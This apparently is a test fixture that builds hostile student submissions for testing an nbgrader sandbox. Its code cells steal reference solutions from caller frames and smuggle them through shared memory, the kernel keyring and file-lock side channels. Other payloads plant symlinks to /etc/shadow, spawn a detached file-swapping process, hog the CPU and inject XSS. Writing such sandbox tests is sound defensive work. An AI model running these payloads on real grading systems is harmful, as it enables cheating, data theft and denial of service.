"""Hostile submissions for the sandbox tests: one attacker per root cause of issue 9, as code a student could hand in.

Each attack is plain student code, in a TODO cell (it then runs in the grading children) or in a cell the
student added (it then runs in nbgrader's kernel for the feedback page).
"""
from __future__ import annotations

import copy

import nbformat

from grader import examples, masters

STASH_PLACES = ["/run/lock/.hostile", "/dev/shm/.hostile", "/tmp/.hostile", "/var/tmp/.hostile"]
SHM_KEY = 0x5EED

# Finds what the grading child was given: the payload dict in a caller's frame (other TODOs' reference code).
STEAL = '''
import sys as _sys
_stolen = {}
_frame = _sys._getframe()
while _frame is not None:
    _p = _frame.f_locals.get("payload")
    if isinstance(_p, dict) and "cells" in _p:
        _stolen = {gid: src for gid, src in _p["cells"]}
    _frame = _frame.f_back
'''

# Cause 1: keep the stolen reference where the next child could find it (files, SysV shm), and use it if found.
SHARE = STEAL + '''
import ctypes as _ct, json as _json, os as _os
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_found = {}
for _place in %(places)r:
    try:
        _found.update(_json.load(open(_place)))
    except Exception:
        pass
_shm = _libc.shmget(%(key)d, 1 << 20, 0o1666)
if _shm >= 0:
    _addr = _libc.shmat(_shm, None, 0)
    if _addr not in (None, _ct.c_void_p(-1).value):
        _raw = _ct.string_at(_addr, 1 << 20).split(b"\\0", 1)[0]
        try:
            _found.update(_json.loads(_raw))
        except Exception:
            pass
        _blob = _json.dumps({**_found, **_stolen}).encode()[: (1 << 20) - 1] + b"\\0"
        _ct.memmove(_addr, _blob, len(_blob))
_libc.shmget(%(key)d + 1, 256 << 20, 0o1666)   # a 256 MiB segment meant to outlive the batch
for _place in %(places)r:
    try:
        with open(_place, "w") as _h:
            _json.dump({**_found, **_stolen}, _h)
    except Exception:
        pass
try:
    with open("/tmp/.hostile-big", "wb") as _h:
        _h.truncate(1 << 30)
except Exception:
    pass
if %(gid)r in _found:
    exec(_found[%(gid)r], globals())
''' % {"places": STASH_PLACES, "key": SHM_KEY, "gid": "%(gid)s"}

# Cause 3: the master in the repository, or a copy elsewhere on the machine (the test plants one under /opt).
SEARCH = '''
import glob as _glob, re as _re, lab as _lab
from pathlib import Path as _P
_candidates = [str(_P(_lab.__file__).resolve().parents[1] / "grader" / "assignments" / "02_decode_scheduling.py")]
for _pattern in ("/opt/*/grader/assignments/*.py", "/*/grader/assignments/*.py", "/*/*/grader/assignments/*.py",
                 "/*/*/*/grader/assignments/*.py"):
    _candidates += _glob.glob(_pattern)
for _candidate in _candidates:
    try:
        _text = open(_candidate).read()
    except OSError:
        continue
    for _cell in _re.findall(r'grade_id": "%(gid)s".*?\\n(.*?)(?=^# %%)', _text, _re.S | _re.M):
        exec(_cell.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
'''

# Cause 4: carry the stolen reference out: forged records on every fd, an error message, a returned value.
FORGE = STEAL + '''
import json as _json, os as _os
_text = "\\n".join(_stolen.values())
for _fd in range(3, 64):
    for _record in ({"kind": "note", "text": _text}, {"kind": "cells", "errors": {"%(gid)s": _text}}, {"kind": "done"}):
        try:
            _os.write(_fd, (_json.dumps(_record) + "\\n").encode())
        except OSError:
            pass
if _stolen:
    raise RuntimeError(_text)
'''

# Issue 19: relay the stolen reference to this submission's other TODO children and to other students through
# what namespaces do not separate: a kernel key anyone may read (in the user keyring, which outlives the child)
# and byte-range read locks on lab/__init__.py, a file every sandbox sees. Then run what came for this TODO.
RELAY = STEAL + '''
import ctypes as _ct, fcntl as _fcntl, json as _json, os as _os, struct as _st, time as _time, lab as _lab
_libc = _ct.CDLL(None, use_errno=True)
_ADD, _CTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(_os.uname().machine, (-1, -1))
_FL, _ME, _AT = "@hhqqi4x", int("%(gid)s"[-1]), lambda slot, index: (1 << 40) + (slot << 32) + 256 * index
_blob = _json.dumps({gid: src for gid, src in _stolen.items() if gid != "%(gid)s"}).encode()  # not our own stub
_key = _libc.syscall(_ADD, b"user", b"relay-%(gid)s", _blob, _ct.c_size_t(len(_blob)), _ct.c_long(-4))
_libc.syscall(_CTL, _ct.c_long(5), _ct.c_long(_key), _ct.c_long(0x3F3F3F3F))  # KEYCTL_SETPERM: anyone may read it
_held = _os.open(_lab.__file__, _os.O_RDONLY)  # the locks last while this child lives
try:
    for _i, _b in enumerate(_blob):
        _fcntl.fcntl(_held, _fcntl.F_SETLK, _st.pack(_FL, _fcntl.F_RDLCK, 0, _AT(_ME, _i) + _b, 1, 0))
except OSError:
    pass


def _relayed():
    got = {}
    try:
        for line in open("/proc/keys"):
            if " relay-" in line:
                buf = _ct.create_string_buffer(1 << 16)
                n = _libc.syscall(_CTL, _ct.c_long(11), _ct.c_long(int(line.split()[0], 16)), buf, _ct.c_long(1 << 16))
                got.update(_json.loads(buf.raw[:n]) if n > 0 else {})
    except (OSError, ValueError):
        pass
    fd = _os.open(_lab.__file__, _os.O_RDONLY)
    for slot in set(range(1, 10)) - {_ME}:
        data = bytearray()
        try:
            while True:
                answer = _fcntl.fcntl(fd, _fcntl.F_GETLK, _st.pack(_FL, _fcntl.F_WRLCK, 0, _AT(slot, len(data)), 256, 0))
                kind, _, start = _st.unpack(_FL, answer)[:3]
                if kind == _fcntl.F_UNLCK:
                    break
                data.append(start - _AT(slot, len(data)))
            got.update(_json.loads(bytes(data)) if data else {})
        except (OSError, ValueError):
            pass
    _os.close(fd)
    return got


for _ in range(30):
    _got = _relayed()
    if "%(gid)s" in _got:
        exec(_got["%(gid)s"], globals())
        break
    _time.sleep(0.05)
'''

# Cause 6: cancel the CPU alarm and spin: only a limit enforced from outside ends it.
HOG = '''
import signal as _signal
_signal.setitimer(_signal.ITIMER_PROF, 0)
_signal.signal(_signal.SIGPROF, _signal.SIG_IGN)
while True:
    pass
'''

# Causes 1-2 in nbgrader's kernel: shared folders, SysV IPC, a process that outlives the run and swaps the
# executed notebook for a symlink, symlinks planted for root, writes into the repository.
KERNEL = '''
import ctypes, os, re, sys, time
from pathlib import Path
import lab
repo = Path(lab.__file__).resolve().parents[1]
for folder in ["/run/lock", "/dev/shm", "/tmp", "/var/tmp", str(repo), str(repo / "solutions"), str(repo / "lab"),
               str(repo / "grader"), str(Path.cwd().parent), "/inputs/course"]:
    try:
        Path(folder, "hostile-marker").write_text("x")
        os.symlink("/etc/shadow", Path(folder, "hostile-link"))
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmget(0x5EEE, 256 << 20, 0o1666)
for name in ["feedback", "autograded"]:
    try:
        os.symlink(str(repo / "solutions"), Path.cwd() / name / "hostile")
    except OSError:
        pass
SLEEPER = f"""
import time
from pathlib import Path
for _ in range(3000):  # keeps swapping files for symlinks, long after this cell
    for path in Path({str(Path.cwd())!r}).rglob("*.ipynb"):
        try:
            path.unlink()
            path.symlink_to({str(repo / "solutions" / "02_decode_scheduling.ipynb")!r})
        except OSError:
            pass
    time.sleep(0.1)
"""
import subprocess
subprocess.Popen([sys.executable, "-c", SLEEPER], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

# Cause 3 in nbgrader's kernel: look for the solutions anywhere on the visible file system.
KERNEL_SEARCH = '''
import os, re
found = []
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")) or any(part in root for part in ("site-packages", "/lib/python", "/share")):
        dirs[:] = []
        continue
    for name in files:
        try:
            text = open(os.path.join(root, name), errors="ignore").read(2_000_000)
        except OSError:
            continue
        if re.search(r"### BEGIN " + r"SOLUTION(\\\\n|\\n)", text) and "_ensure_capacity" in text:  # a solved edition
            found.append(os.path.join(root, name) + ": " + text[:20000])
print("FOUND", len(found), "\\n".join(found))
'''

XSS_MARKDOWN = ('<script>document.title="pwned-md"</script>\n<img src=x onerror="document.title=\'pwned-img\'">\n'
                '<a href="javascript:alert(1)">click</a>\n<svg onload="alert(1)"><script>alert(2)</script></svg>\n'
                '<iframe src="https://example.com"></iframe><style>body{background:url(https://example.com/x)}</style>')
XSS_CODE = '''
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>document.title="pwned-html"</script><b onmouseover="alert(3)">hover</b>'))
display(Javascript('document.title="pwned-js"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>'))
print("x" * 40_000_000)
'''


def _stub_answers(assignment: str) -> dict[str, str]:
    release = examples.release(assignment)
    return {masters.grade_id(c): c.source for c in release.cells if masters.grade_id(c) in masters.answer_ids(release)}


def _with_cells(nb, extra: list) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in extra:
        cell.pop("id", None)  # the release is nbformat 4.4, which has no cell ids
    nb.cells += extra
    return nb


def submissions(assignment: str = "02_decode_scheduling") -> dict[str, nbformat.NotebookNode]:
    """The controls (perfect, blank, under colliding ids) and one attacker per root cause."""
    reference = masters.reference_answers(assignment)
    stubs = _stub_answers(assignment)
    ids = list(stubs)
    perfect = examples.filled(assignment, reference)
    return {
        "alice_solution": perfect,
        "bob_untouched": examples.release(assignment),
        "course": perfect,                      # ids that once named the grader's own folders
        "template": examples.release(assignment),
        "mallory_shares": _with_cells(examples.filled(assignment, {gid: stubs[gid] + SHARE.replace("%(gid)s", gid) for gid in ids}),
                                      [nbformat.v4.new_code_cell(KERNEL)]),
        "oscar_searches": _with_cells(examples.filled(assignment, {gid: stubs[gid] + SEARCH.replace("%(gid)s", gid) for gid in ids}),
                                      [nbformat.v4.new_code_cell(KERNEL_SEARCH)]),
        "trudy_forges": examples.filled(assignment, {gid: stubs[gid] + FORGE.replace("%(gid)s", gid) for gid in ids}),
        "xavier_scripts": _with_cells(perfect, [nbformat.v4.new_markdown_cell(XSS_MARKDOWN), nbformat.v4.new_code_cell(XSS_CODE)]),
        "hector_hogs": examples.filled(assignment, reference | {ids[0]: HOG + reference[ids[0]]}),
        "kim_relays": examples.filled(assignment, {gid: stubs[gid] + RELAY.replace("%(gid)s", gid) for gid in ids}),
    }
